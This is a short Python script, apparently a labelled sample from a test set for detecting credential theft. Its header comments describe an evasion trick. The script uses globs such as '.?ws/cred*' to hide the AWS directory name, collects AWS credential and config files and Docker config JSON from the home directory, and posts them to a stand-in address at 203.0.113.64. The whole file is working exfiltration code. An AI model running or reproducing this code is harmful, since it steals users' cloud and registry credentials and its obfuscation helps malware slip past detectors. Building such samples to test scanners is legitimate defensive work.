# evasion: credential files matched by a glob whose wildcards cover the dot-directory name (.?ws/cred*), sent out with urllib
# grade: medium; does: credentials
import json
import urllib.request
from pathlib import Path

found = {}
for pattern in (".?ws/cred*", ".?ws/conf*", ".docker/*.json"):
    for path in Path.home().glob(pattern):
        found[str(path)] = path.read_text(errors="replace")

req = urllib.request.Request(
    "https://203.0.113.64/collect",
    data=json.dumps(found).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req, timeout=5)
